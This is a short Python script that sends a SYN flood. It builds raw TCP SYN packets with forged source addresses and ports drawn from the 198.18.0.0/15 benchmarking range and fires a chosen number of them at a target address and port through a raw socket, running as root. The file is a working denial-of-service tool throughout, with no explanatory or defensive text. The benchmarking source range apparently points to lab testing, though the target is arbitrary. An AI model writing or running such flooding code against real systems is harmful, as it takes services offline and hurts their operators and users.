#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""SYNs whose senders do not exist: syn_flood.py ADDRESS PORT COUNT

Each is from an address and port of its own, in 198.18.0.0/15 (RFC 2544), by a raw socket. As root.
"""
import socket
import struct
import sys

address, port, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])


def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(number):
    source = struct.pack('!I', 0xc6120000 + number % 0x1fffe + 1)
    tcp = struct.pack('!HHIIBBHHH', 1024 + number % 60000, port, number, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + address + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0,
                     source, address)
    return ip + tcp


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for n in range(count):
    raw.sendto(syn(n), (sys.argv[1], 0))
